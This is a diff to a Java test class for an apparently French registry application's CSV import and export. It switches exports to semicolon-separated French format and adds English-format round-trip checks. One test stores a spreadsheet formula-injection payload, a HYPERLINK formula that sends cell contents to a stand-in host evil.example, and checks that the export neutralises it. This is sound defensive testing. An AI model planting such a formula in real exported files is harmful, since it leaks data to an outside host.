@@ -23,6 +23,7 @@ import org.phare.core.ecosystem.Partnership;
 import org.phare.core.ecosystem.PartnershipCategory;
 import org.phare.core.indicator.Domain;
 import org.phare.core.territory.TerritoryId;
+import org.phare.core.text.CsvTable;
 import org.phare.store.message.Rendered;
 
 class AnalysisAndCsvTest {
@@ -246,7 +247,14 @@ class AnalysisAndCsvTest {
     s.csv().exportOrganisations(LOIRET, out);
     String csv = out.toString();
     assertThat(csv.lines()).hasSize(6);
-    assertThat(csv.lines().findFirst().orElseThrow()).startsWith("id,name,type,size");
+    // French spreadsheets by default: BOM, then ; between cells
+    assertThat(csv.lines().findFirst().orElseThrow())
+        .startsWith("\uFEFFid;name;type;size")
+        .endsWith(
+            ";type_libelle;taille_libelle;statut_libelle;domaines_libelles;objectifs_libelles");
+    StringWriter english = new StringWriter();
+    s.csv().exportOrganisations(LOIRET, null, CsvTable.Format.ENGLISH, english);
+    assertThat(english.toString()).startsWith("id,name,type,size");
     DB.reset();
     RegistryCsv.ImportResult result =
         s.csv().importOrganisations(LOIRET_EDITOR, "orgs.csv", new StringReader(csv), false);
@@ -254,6 +262,14 @@ class AnalysisAndCsvTest {
     assertThat(s.registry().organisations(LOIRET, null, null, 100, 0))
         .extracting(Organisation::name)
         .containsExactly("Alpha", "Beta", "Collectif C", "Dynamo D", "Ville E");
+    // the English file imports back too (the separator is read from the header line)
+    DB.reset();
+    assertThat(
+            s.csv()
+                .importOrganisations(
+                    LOIRET_EDITOR, "orgs.csv", new StringReader(english.toString()), false)
+                .imported())
+        .isEqualTo(5);
   }
 
   @Test
@@ -261,15 +277,15 @@ class AnalysisAndCsvTest {
     String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez\")";
     s.registry().create(LOIRET_EDITOR, company(formula, "45234", null), false);
     StringWriter out = new StringWriter();
-    s.csv().exportOrganisations(LOIRET, LOIRET_EDITOR.permissions(), out);
+    s.csv().exportOrganisations(LOIRET, LOIRET_EDITOR.permissions(), CsvTable.Format.FRENCH, out);
     String csv = out.toString();
-    assertThat(csv).contains("\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK(");
+    assertThat(csv).contains("\"'=HYPERLINK(").doesNotContain(";\"=HYPERLINK(");
     assertThat(csv).contains("jeanne@example.org");
     StringWriter anonymous = new StringWriter();
-    s.csv().exportOrganisations(LOIRET, null, anonymous);
+    s.csv().exportOrganisations(LOIRET, null, CsvTable.Format.FRENCH, anonymous);
     assertThat(anonymous.toString()).contains("'=HYPERLINK(").doesNotContain("jeanne@example.org");
     StringWriter cher = new StringWriter();
-    s.csv().exportOrganisations(LOIRET, CHER_EDITOR.permissions(), cher);
+    s.csv().exportOrganisations(LOIRET, CHER_EDITOR.permissions(), CsvTable.Format.FRENCH, cher);
     assertThat(cher.toString()).doesNotContain("Jeanne Martin");
     DB.reset();
     s.csv().importOrganisations(LOIRET_EDITOR, "orgs.csv", new StringReader(csv), false);
@@ -375,7 +391,7 @@ class AnalysisAndCsvTest {
     assertThat(p.start()).hasToString("2024-01-01");
     StringWriter out = new StringWriter();
     s.csv().exportPartnerships(LOIRET, out);
-    assertThat(out.toString()).contains("departement:45,2024-01-01,2025-06-30");
+    assertThat(out.toString()).contains("departement:45;2024-01-01;2025-06-30");
     String bad =
         "title,members,category,territory,start\nX,"
             + alpha
